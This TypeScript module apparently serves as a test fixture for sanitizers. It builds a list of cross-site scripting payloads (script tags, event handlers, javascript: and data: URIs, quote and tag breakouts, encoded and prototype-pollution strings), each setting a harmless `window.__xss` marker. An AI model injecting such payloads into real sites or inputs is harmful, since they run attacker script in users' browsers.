/** Two hundred ways to have a page do what is only to be shown; each would set `window.__xss`. */

const DO = "window.__xss=1";

/** Where a payload may break out of. */
const around: readonly ((code: string) => string)[] = [
  (code) => code,
  (code) => `">${code}`,
  (code) => `'>${code}`,
  (code) => `</title></textarea></script></style>${code}`,
  (code) => `--><!-- -->${code}`,
  (code) => `]]>${code}`,
  (code) => `\u202e${code}\u202c`,
  (code) => `{{${code}}}`,
];

const codes: readonly string[] = [
  `<script>${DO}</script>`,
  `<ScRiPt >${DO}</sCrIpT>`,
  `<img src=x onerror=${DO}>`,
  `<img src=x onerror="${DO}"//`,
  `<svg onload=${DO}>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
  `<body onload=${DO}>`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<a href="javascript:${DO}">x</a>`,
  `<math><mi xlink:href="javascript:${DO}">x</mi></math>`,
  `<details open ontoggle=${DO}>`,
  `<input autofocus onfocus=${DO}>`,
  `<select autofocus onfocus=${DO}>`,
  `<video><source onerror=${DO}></video>`,
  `<object data="javascript:${DO}">`,
  `<embed src="data:text/html,<script>parent.__xss=1</script>">`,
  `<form action="javascript:${DO}"><button>x</button></form>`,
  `<style>@import'data:text/css,*{background:url(javascript:${DO})}';</style>`,
  `<link rel=stylesheet href="javascript:${DO}">`,
  `<base href="javascript:${DO}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${DO}">`,
  `<template><img src=x onerror=${DO}></template>`,
];

const bare: readonly string[] = [
  `javascript:${DO}`,
  `JaVaScRiPt:${DO}`,
  ` javascript:${DO}`,
  `data:text/html,<script>${DO}</script>`,
  `vbscript:${DO}`,
  "__proto__",
  "constructor",
  "toString",
  "dangerouslySetInnerHTML",
  `#/resource/"><img src=x onerror=${DO}>`,
  `?scope="><script>${DO}</script>`,
  `\${${DO}}`,
  `');${DO};//`,
  `";${DO};//`,
  "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
  "&lt;script&gt;window.__xss=1&lt;/script&gt;",
  `\u2028${DO}\u2029`,
  "\u200b\ufeff<b>\u0007",
];

/** All of them, each once. */
export const payloads = (): string[] => [
  ...new Set([...codes.flatMap((code) => around.map((wrap) => wrap(code))), ...bare]),
];
